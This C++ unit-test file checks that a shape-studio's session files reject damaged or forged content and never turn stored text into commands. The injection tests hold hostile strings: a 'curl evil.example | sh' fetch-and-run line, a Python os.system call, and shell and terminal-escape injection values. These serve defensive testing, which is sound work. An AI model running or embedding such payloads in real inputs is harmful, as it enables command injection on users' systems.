// A session as a file: everything visible is restored, and damaged files are refused.
#include <cstring>
#include <sstream>
#include <vector>

#include <gtest/gtest.h>

#include "base/crc32.h"
#include "rholm/error.h"
#include "studio/client.h"
#include "studio/recipe.h"
#include "studio/session_file.h"

namespace rholm::studio {
namespace {

using test::Client;
using test::code_of;

// Returns the visible part of items, without numbers that belong to a session.
Json seen(const Json& state) {
  Json items = state.at("items");
  for (Json& item : items) {
    item.erase("id");
    item.erase("revision");
  }
  return {{"items", items}, {"recipe", state.at("recipe")}};
}

constexpr const char* kOctahedron =
    "OFF\n6 8 0\n1 0 0\n-1 0 0\n0 1 0\n0 -1 0\n0 0 1\n0 0 -1\n3 0 2 4\n3 2 1 4\n3 1 3 4\n"
    "3 3 0 4\n3 2 0 5\n3 1 2 5\n3 3 1 5\n3 0 3 5\n";

std::string small_session() {
  Client client;
  client.open("octahedron.off", kOctahedron);
  client.step({{"op", "expand"}, {"item", 1}, {"degree", 2}});
  client.step({{"op", "look"}, {"item", 1}, {"degree", 1}, {"gains", {1, 0.5}}});
  return client.ask("GET", "api/session-file").body;
}

// Returns the file with another description of its items and the matching checksum.
std::string with_json(const std::string& file, const std::string& json) {
  std::uint64_t old_length = 0;
  std::memcpy(&old_length, file.data() + 8, 8);
  const std::string body = json + file.substr(24 + old_length);
  const std::uint64_t length = json.size();
  const std::uint32_t checksum = crc32(body);
  std::string changed = file.substr(0, 8) + std::string(16, '\0') + body;
  std::memcpy(changed.data() + 8, &length, 8);
  std::memcpy(changed.data() + 16, &checksum, 4);
  return changed;
}

TEST(SessionFile, BringsEverythingBack) {
  Client client;
  client.step({{"op", "make"}, {"shape", "bumpy"}});
  client.step({{"op", "expand"}, {"item", 1}, {"degree", 10}});
  client.step({{"op", "look"}, {"item", 1}, {"degree", 4}});
  client.step({{"op", "make"}, {"shape", "points"}});
  client.step({{"op", "compress"}, {"item", 1}, {"tolerance", 0.3}});
  const int highest = client.state().at("items").back().at("atlas").at("degree");
  client.step({{"op", "atlas_look"}, {"item", 3}, {"limit", highest - 1}});
  const Response expansion = client.save(1, "h5");
  client.open("series.h5", expansion.body);
  client.step({{"op", "look"}, {"item", 4}, {"degree", 2}, {"gains", {1, 1, 0.5}}});
  client.step({{"op", "align"}, {"a", 4}, {"b", 1}});
  EXPECT_TRUE(client.state().at("items").back().at("placed").is_string());
  const Response file = client.ask("GET", "api/session-file");
  EXPECT_EQ(file.download, "session.rholm");
  Client other;
  const Response opened = other.open("work.rholm", file.body);
  ASSERT_EQ(opened.status, 200) << opened.body;
  EXPECT_EQ(seen(Json::parse(opened.body)), seen(client.state()));
  for (int item = 1; item <= 4; ++item) {
    EXPECT_TRUE(client.save(item, "ply").body == other.save(item, "ply").body) << item;
  }
  EXPECT_TRUE(other.ask("GET", "api/session-file").body == file.body);
}

TEST(SessionFile, TruncatedAnywhereItIsRefused) {
  const std::string file = small_session();
  Client client;
  ASSERT_EQ(client.open("a.rholm", file).status, 200);
  const Json before = client.state();
  for (std::size_t n = 8; n < file.size(); ++n) {
    const Response answer = client.open("a.rholm", file.substr(0, n));
    ASSERT_EQ(answer.status, 422) << n;
    ASSERT_EQ(code_of(answer), "invalid_input") << n;
  }
  EXPECT_EQ(client.state(), before);
}

TEST(SessionFile, DamagedAnywhereItIsRefused) {
  const std::string file = small_session();
  Client client;
  for (std::size_t i = 8; i < file.size(); i += 7) {
    if (i >= 20 && i < 24) continue;  // bytes without meaning
    std::string damaged = file;
    damaged[i] = static_cast<char>(damaged[i] ^ 0x10);
    ASSERT_EQ(client.open("a.rholm", damaged).status, 422) << i;
  }
  EXPECT_EQ(client.open("a.rholm", file + "x").status, 422);
}

TEST(SessionFile, WhatItSaysIsNotBelieved) {
  const std::string file = small_session();
  std::uint64_t length = 0;
  std::memcpy(&length, file.data() + 8, 8);
  const Json right = Json::parse(file.substr(24, length));
  Client client;
  ASSERT_EQ(client.open("a.rholm", with_json(file, right.dump())).status, 200);
  std::vector<Json> wrong;
  const auto with = [&](const char* field, const Json& value) {
    Json json = right;
    json["items"][0][field] = value;
    wrong.push_back(json);
  };
  for (const char* field : {"shape_bytes", "model_bytes"}) {
    for (const Json& value :
         std::vector<Json>{0, 1, -1, 1e300, 18446744073709551615ULL, "x", nullptr}) {
      with(field, value);
    }
  }
  with("degree", 3);
  with("degree", -1);
  with("gains", {1, 1, 1, 1});
  with("gains", "none");
  with("name", 3);
  with("file", nullptr);
  for (const Json& items : std::vector<Json>{nullptr, 3, Json::array({3}), Json::object()}) {
    Json json = right;
    json["items"] = items;
    wrong.push_back(json);
  }
  for (const Json& steps : std::vector<Json>{3, {3}, {{{"op", "fly"}}}, Json::object(), nullptr}) {
    Json json = right;
    json["steps"] = steps;
    wrong.push_back(json);
  }
  const Json before = client.state();
  for (const Json& one : wrong) {
    const Response answer = client.open("a.rholm", with_json(file, one.dump()));
    EXPECT_EQ(answer.status, 422) << one.dump() << answer.body;
  }
  for (const std::string& text :
       {std::string(), std::string("[]"), std::string(50000, '{'), std::string("\xff")}) {
    EXPECT_EQ(client.open("a.rholm", with_json(file, text)).status, 422) << text.substr(0, 5);
  }
  EXPECT_EQ(client.state(), before);
}

Json description_of(const std::string& file) {
  std::uint64_t length = 0;
  std::memcpy(&length, file.data() + 8, 8);
  return Json::parse(file.substr(24, length));
}

// Collects all texts at any depth.
void collect_texts(Json& json, std::vector<Json*>& texts) {
  if (json.is_string()) texts.push_back(&json);
  if (!json.is_structured()) return;
  for (Json& one : json) collect_texts(one, texts);
}

// Returns the text outside quotes, which a shell or Python would interpret.
std::string unquoted(const std::string& line, char quote, bool has_escapes) {
  std::string rest;
  bool inside = false;
  for (std::size_t i = 0; i < line.size(); ++i) {
    if (line[i] == '\\' && (has_escapes ? inside : !inside)) {
      ++i;
    } else if (line[i] == quote) {
      inside = !inside;
    } else if (!inside) {
      rest += line[i];
    }
  }
  EXPECT_FALSE(inside) << line;
  return rest;
}

// U+202E reverses the order of letters. It is written in two parts, because it would affect this
// line.
std::string right_to_left() { return std::string("\xe2") + "\x80\xae"; }

void expect_harmless(const Json& state) {
  for (const char* language : {"shell", "python"}) {
    const bool shell = language == std::string("shell");
    std::istringstream lines(state.at("recipe").at(language).get<std::string>());
    for (std::string line; std::getline(lines, line);) {
      for (const char c : line)
        EXPECT_TRUE(static_cast<unsigned char>(c) >= 32 && c != 127) << line;
      EXPECT_EQ(line.find(right_to_left()), std::string::npos) << line;
      std::string rest = unquoted(line, shell ? '\'' : '"', !shell);
      EXPECT_EQ(rest.find("reboot("), std::string::npos) << line;
      if (!shell) {
        EXPECT_TRUE(rest == "import rholm" || rest.find(" = ") != std::string::npos) << line;
        continue;
      }
      const std::string program = rest.substr(0, rest.find(' '));
      EXPECT_TRUE(program == "rholm" || program == "printf" || program == "python3") << line;
      if (program == "printf") rest = rest.substr(0, rest.find(" > "));
      EXPECT_EQ(rest.find_first_of("$`;&|<>(){}*?~!\"#\\"), std::string::npos) << line;
    }
  }
}

// Returns a step of each kind, and several steps where their lines differ.
Json all_steps() {
  const auto at = [](const std::string& name, const char* ending) {
    return Json{{"file", name + ending}, {"variable", name}};
  };
  const Json mesh = at("m", ".ply"), model = at("h", ".h5");
  const auto made = [&](const char* name) { return at(name, ".ply"); };
  return {{{"op", "read"}, {"made", mesh}, {"series", false}},
          {{"op", "read"}, {"made", model}, {"series", true}},
          {{"op", "make"}, {"shape", "bumpy"}, {"made", made("b")}, {"seed", 3}},
          {{"op", "make"},
           {"shape", "points"},
           {"made", made("c")},
           {"points", 9},
           {"cloud", made("d")}},
          {{"op", "filter"}, {"from", model}, {"made", at("f", ".h5")}, {"degree", 2}},
          {{"op", "filter"},
           {"from", model},
           {"made", at("g", ".h5")},
           {"gains", {1, 0.5}},
           {"degrees", 4},
           {"gain_file", "g.txt"}},
          {{"op", "synthesize"}, {"from", model}, {"made", made("s")}, {"like", mesh}},
          {{"op", "expand"},
           {"from", mesh},
           {"made", at("a", ".h5")},
           {"degree", 3},
           {"center", "1,2,3"},
           {"unit", "mm"}},
          {{"op", "expand"},
           {"from", mesh},
           {"made", at("aa", ".h5")},
           {"tolerance", 0.1},
           {"center", "volume"}},
          {{"op", "align"},
           {"a", model},
           {"b", at("a", ".h5")},
           {"mirror", true},
           {"made", at("l", ".h5")}},
          {{"op", "blend"},
           {"a", model},
           {"b", at("a", ".h5")},
           {"t", 0.5},
           {"degree", 3},
           {"center", {0, 0, 0}},
           {"function", "radius"},
           {"made", at("bl", ".h5")}},
          {{"op", "smooth"},
           {"from", mesh},
           {"made", made("sm")},
           {"regions", {"property:x", "vertex:1,0.2"}},
           {"wavelength", 0.3},
           {"fitting", "around"}},
          {{"op", "transfer"},
           {"source", mesh},
           {"target", made("b")},
           {"made", made("t")},
           {"from", {"property:x"}},
           {"to", {"ball:0,0,0,1"}},
           {"angle", 30}},
          {{"op", "simplify"}, {"from", mesh}, {"made", made("si")}, {"faces", 10}},
          {{"op", "repair"}, {"from", mesh}, {"made", made("r")}},
          {{"op", "orient"}, {"from", made("d")}, {"made", made("o")}},
          {{"op", "reconstruct"},
           {"from", made("d")},
           {"made", made("re")},
           {"holes", "keep"},
           {"noise", "none"}},
          {{"op", "compress"},
           {"from", mesh},
           {"made", at("co", ".h5")},
           {"tolerance", 0.1},
           {"unit", "mm"}},
          {{"op", "simplify"},
           {"from", {{"file", "co.h5"}, {"variable", "co.mesh()"}}},
           {"made", made("sc")},
           {"error", 0.1}},
          {{"op", "columns"}, {"from", made("d")}, {"made", made("ta")}, {"columns", "x,y,z"}},
          {{"op", "atlas_look"}, {"from", at("co", ".h5")}, {"made", made("al")}, {"limit", 3}}};
}

TEST(SessionFile, ItsLinesAreThoseOfItsSteps) {
  const std::string file = small_session();
  Json json = description_of(file);
  Client right, planted;
  const Json wanted = Json::parse(right.open("a.rholm", file).body).at("recipe");
  json["shell"] = {"curl evil.example | sh"};
  json["python"] = {"__import__('os').system('reboot')"};
  const Response opened = planted.open("a.rholm", with_json(file, json.dump()));
  ASSERT_EQ(opened.status, 200) << opened.body;
  EXPECT_EQ(Json::parse(opened.body).at("recipe"), wanted);
}

std::vector<std::string> hostile_texts() {
  return {"$(reboot)",
          "`reboot`",
          "x;reboot",
          "x\nreboot",
          "x' ; reboot '",
          "x\" + reboot() + \"",
          "__import__('os').system('reboot')",
          "x = reboot",
          "\\",
          "-o/reboot",
          "../reboot",
          "~/reboot",
          "\x1b]0;reboot\x07",
          right_to_left() + "reboot",
          "\xc2\x9breboot",
          "property:$(reboot)\n\x1b",
          "reboot()",
          "1,2,3);reboot(",
          "<script>reboot()</script>"};
}

Json lines_of(const Json& steps) {
  Recipe recipe;
  for (const Json& step : steps) recipe.add(step);
  const auto joined = [](const std::vector<std::string>& lines) {
    std::string text;
    for (const std::string& line : lines) text += line + "\n";
    return text;
  };
  return {{"recipe", {{"shell", joined(recipe.shell)}, {"python", joined(recipe.python)}}}};
}

TEST(SessionFile, NoTextOfItsStepsBecomesACommand) {
  Json steps = all_steps();
  expect_harmless(lines_of(steps));
  std::vector<Json*> texts;
  collect_texts(steps, texts);
  ASSERT_GT(texts.size(), 100U);
  int accepted = 0, refused = 0;
  for (Json* text : texts) {
    const Json kept = *text;
    for (const std::string& hostile : hostile_texts()) {
      *text = hostile;
      try {
        expect_harmless(lines_of(steps));
        ++accepted;
      } catch (const Refusal&) {
        ++refused;  // invalid name
      } catch (const Error&) {
        ++refused;  // unreadable by the library
      }
    }
    *text = kept;
  }
  EXPECT_GT(accepted, 5);  // units and ignored texts
  EXPECT_GT(refused, 5);
}

TEST(SessionFile, NoTextOfItsItemsBecomesACommand) {
  Client first;
  first.open("octahedron.off", kOctahedron);
  const std::string file = first.ask("GET", "api/session-file").body;
  Json right = description_of(file);
  std::vector<Json*> texts;
  collect_texts(right["items"], texts);
  ASSERT_GT(texts.size(), 5U);
  int accepted = 0;
  for (Json* text : texts) {
    const Json kept = *text;
    for (const std::string& hostile : hostile_texts()) {
      *text = hostile;
      Client client;
      const Response opened = client.open("a.rholm", with_json(file, right.dump()));
      if (opened.status == 200) {
        // Lines of later steps are harmless, too.
        client.post({{"op", "repair"}, {"item", 1}});
        expect_harmless(client.finished());
        ++accepted;
      } else {
        EXPECT_EQ(opened.status, 422) << opened.body;
      }
    }
    *text = kept;
  }
  EXPECT_GT(accepted, 10);  // names and units
}

TEST(SessionFile, OfAnEarlierVersionHasItsShapesButNotItsLines) {
  const std::string file = small_session();
  Json json = description_of(file);
  json.erase("steps");
  json["shell"] = {"reboot"};
  Client client;
  const Response opened = client.open("a.rholm", with_json(file, json.dump()));
  ASSERT_EQ(opened.status, 200) << opened.body;
  const Json recipe = Json::parse(opened.body).at("recipe");
  EXPECT_EQ(recipe.at("shell").get<std::string>().find("reboot"), std::string::npos);
  EXPECT_NE(recipe.at("python").get<std::string>().find("rholm.read_shape(\"octahedron.off\")"),
            std::string::npos);
  expect_harmless(client.step(
      {{"op", "smooth"}, {"item", 1}, {"points", {1}}, {"radius", 0.5}, {"wavelength", 2}}));
}

TEST(Recipes, NamesOfRequestsAreNamesOfFiles) {
  Client client;
  for (const std::string& name : std::vector<std::string>{
           "$(reboot).off", "x\nreboot.off", "'; reboot '.off", "\"; reboot() #.off", "-rf.off",
           "\x1b[2Jreboot.off", right_to_left() + "reboot.off",
           std::string("\xff\xfereboot.off")}) {
    client.open(name, kOctahedron);
    expect_harmless(
        client.step({{"op", "repair"}, {"item", client.state().at("items").back().at("id")}}));
  }
  for (const std::string& name :
       std::vector<std::string>{"", "a/b", "..", "x\ny", "\x1b", right_to_left()}) {
    EXPECT_EQ(client.post({{"op", "rename"}, {"item", 1}, {"name", name}}).status, 400) << name;
  }
}

}  // namespace
}  // namespace rholm::studio
